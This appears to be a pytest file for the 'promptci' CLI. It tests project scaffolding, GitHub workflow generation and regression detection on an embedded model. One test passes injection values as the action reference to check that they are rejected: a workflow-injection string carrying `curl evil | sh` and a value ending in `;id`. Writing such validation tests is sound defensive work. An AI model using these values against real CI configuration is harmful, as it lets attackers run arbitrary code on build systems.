"""`promptci init` scaffolds a project that works at once."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from promptci.cli import main
from promptci.errors import ExitCode

from .conftest import git


def test_init_in_an_empty_directory(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "new"
    assert main(["init", str(target)]) == 0
    assert (target / ".git").is_dir()
    for rel in ("promptci.yaml", "prompts/sentiment.yaml", "evals/sentiment.yaml", ".pre-commit-config.yaml"):
        assert (target / rel).is_file(), rel
    assert ".promptci/" in (target / ".gitignore").read_text()
    assert main(["-C", str(target), "lint", "--strict"]) == 0
    assert main(["-C", str(target), "render", "sentiment", "--var", "review=Nice"]) == 0
    assert "Review: Nice" in capsys.readouterr().out


def test_init_refuses_to_overwrite_and_writes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "prompts").mkdir()
    (tmp_path / "prompts" / "sentiment.yaml").write_text("mine")
    assert main(["init", str(tmp_path)]) == ExitCode.USAGE
    assert "already exists: prompts/sentiment.yaml" in capsys.readouterr().err
    assert not (tmp_path / "promptci.yaml").exists()
    assert (tmp_path / "prompts" / "sentiment.yaml").read_text() == "mine"
    assert main(["init", str(tmp_path), "--force"]) == 0
    assert (tmp_path / "prompts" / "sentiment.yaml").read_text() != "mine"


def test_init_keeps_an_existing_gitignore(tmp_path: Path) -> None:
    (tmp_path / ".gitignore").write_text("node_modules/\n")
    assert main(["init", str(tmp_path)]) == 0
    assert (tmp_path / ".gitignore").read_text() == "node_modules/\n.promptci/\n"


def test_init_github_writes_valid_workflows_that_use_the_action(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import subprocess
    import sys

    import yaml

    assert main(["init", str(tmp_path), "--github", "--action", "acme/promptci@v2"]) == 0
    gate, passes = tmp_path / ".github/workflows/promptci.yml", tmp_path / ".github/workflows/promptci-optimize.yml"
    for workflow in (gate, passes):
        checked = subprocess.run(
            [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows", str(workflow)],
            capture_output=True,
            text=True,
        )
        assert checked.returncode == 0, checked.stdout + checked.stderr
    flow = yaml.safe_load(passes.read_text())
    assert set(flow[True]) == {"push", "pull_request", "schedule", "workflow_dispatch"}  # YAML reads `on` as True
    assert flow[True]["pull_request"] == {"types": ["labeled"]}
    plan, optimize = flow["jobs"]["plan"], flow["jobs"]["optimize"]
    assert "promptci:optimize" in plan["if"]
    assert plan["steps"][-1]["uses"] == "acme/promptci@v2" and plan["steps"][-1]["with"]["mode"] == "optimize-plan"
    assert optimize["strategy"]["matrix"]["prompt"] == "${{ fromJSON(needs.plan.outputs.prompts) }}"
    assert (
        "matrix.prompt" in optimize["concurrency"]["group"] and optimize["concurrency"]["cancel-in-progress"] is False
    )
    assert optimize["steps"][-1]["with"] == {"mode": "optimize", "prompt": "${{ matrix.prompt }}"}
    assert flow["permissions"] == {}
    assert plan["permissions"] == {"contents": "read"}
    assert optimize["permissions"] == {"contents": "write", "pull-requests": "write"}
    assert "uses: acme/promptci@v2" in gate.read_text()

    capsys.readouterr()
    assert main(["init", str(tmp_path), "--github"]) == ExitCode.USAGE  # no overwriting without --force
    assert "already exists: .github/workflows/promptci.yml" in capsys.readouterr().err
    assert "acme/promptci@v2" in gate.read_text()


@pytest.mark.parametrize(
    "action",
    ["acme/promptci@v2\n    run: curl evil | sh", "acme/p@v1 # x", "acme/p", "'acme/p@v1'", "@v1", "acme/p@v1;id", ""],
)
def test_init_github_refuses_an_action_that_is_not_a_reference(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], action: str
) -> None:
    assert main(["init", str(tmp_path), "--github", "--action", action]) == ExitCode.USAGE
    assert "is not OWNER/REPO@REF" in capsys.readouterr().err
    assert not (tmp_path / ".github").exists()


@pytest.mark.parametrize("action", ["acme/promptci@v2", "acme/tools/promptci@release/1.2", "./", "./actions/promptci"])
def test_init_github_takes_every_form_of_action_reference(tmp_path: Path, action: str) -> None:
    assert main(["init", str(tmp_path), "--github", "--action", action]) == 0
    assert f"uses: {action}\n" in (tmp_path / ".github/workflows/promptci.yml").read_text()


@pytest.mark.slow
def test_the_first_run_passes_and_the_gate_catches_a_wrecked_prompt(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`init` then `eval` is green on the embedded model; a wrecked prompt is called regressed."""
    target = tmp_path / "first"
    assert main(["init", str(target)]) == 0
    git(target, "add", "-A")
    git(target, "commit", "-qm", "start")
    capsys.readouterr()
    assert main(["-C", str(target), "eval"]) == 0, capsys.readouterr().err
    row = next(line for line in capsys.readouterr().out.splitlines() if line.startswith("sentiment"))
    assert row.split("\t")[2] == "24" and row.endswith("pass")
    prompt = target / "prompts/sentiment.yaml"
    prompt.write_text(
        prompt.read_text()
        .replace("content: positive", "content: banana")
        .replace("content: negative", "content: banana")
    )
    code = main(["-C", str(target), "compare", "--run-missing"])
    out = capsys.readouterr().out
    assert code == 1, out
    assert "regressed" in out


RECORD_TOOL = """\
tools:
  - type: function
    function:
      name: record_sentiment
      description: Record whether the review is positive or negative.
      parameters:
        type: object
        properties:
          label: {type: string, enum: [positive, negative]}
        required: [label]
tool_choice: required
"""


@pytest.mark.slow
def test_the_readme_tool_journey_on_the_embedded_model(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """README: add a tool to the example prompt, eval, change its description, compare."""
    target = tmp_path / "journey"
    assert main(["init", str(target)]) == 0
    prompt = target / "prompts/sentiment.yaml"
    prompt.write_text(
        prompt.read_text()
        .replace("tags: [example]\n", RECORD_TOOL + "tags: [example]\n")
        .replace("max_tokens: 4", "max_tokens: 24")
    )
    git(target, "add", "-A")
    git(target, "commit", "-qm", "record the sentiment with a tool")
    capsys.readouterr()
    assert main(["-C", str(target), "eval", "-o", str(tmp_path / "run.json")]) == 0, capsys.readouterr().err
    capsys.readouterr()
    results = json.loads((tmp_path / "run.json").read_text())["results"]
    calls = [json.loads(r["output"])["tool_calls"] for r in results]
    assert len(calls) == 24 and all(c[0]["name"] == "record_sentiment" for c in calls)  # each reply is one call
    assert sum(r["passed"] for r in results) >= 20  # the label, decoded under its enum: ≈ 0.92 against ≈ 0.67 as text
    prompt.write_text(
        prompt.read_text().replace("Record whether the review is positive or negative.", "Record the sentiment.")
    )
    code = main(["-C", str(target), "compare", "--run-missing", "--format", "json"])
    compared = json.loads(capsys.readouterr().out)
    suite = compared["suites"][0]
    assert code == 0 and suite["n"] == 24 and suite["base_prompt_hash"] != suite["head_prompt_hash"]
    assert all(f["change"] and f["change"].startswith("record_sentiment") for f in suite["flips"])
